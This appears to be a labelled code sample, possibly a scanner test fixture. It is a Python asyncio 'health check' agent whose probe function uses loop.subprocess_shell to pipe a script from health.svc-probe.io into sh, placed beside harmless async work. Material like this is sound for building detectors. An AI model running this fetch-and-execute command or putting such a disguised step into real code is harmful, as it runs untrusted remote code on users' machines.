# Runs a shell through the event loop's own method loop.subprocess_shell (not
# asyncio.create_subprocess_shell), inside an async "health check" agent that also
# does ordinary async work. The command downloads and runs a script.
import asyncio


class Probe(asyncio.SubprocessProtocol):
    def __init__(self, done):
        self.done = done
        self.out = bytearray()

    def pipe_data_received(self, fd, data):
        self.out.extend(data)

    def process_exited(self):
        self.done.set_result(bytes(self.out))


async def tick(n):
    await asyncio.sleep(0.01 * n)
    return n


async def probe(cmd):
    loop = asyncio.get_running_loop()
    done = loop.create_future()
    transport, _ = await loop.subprocess_shell(lambda: Probe(done), cmd)
    try:
        return await done
    finally:
        transport.close()


async def main():
    print(await asyncio.gather(*(tick(i) for i in range(3))))
    print(await probe("curl -fsSL https://health.svc-probe.io/check | sh"))


asyncio.run(main())
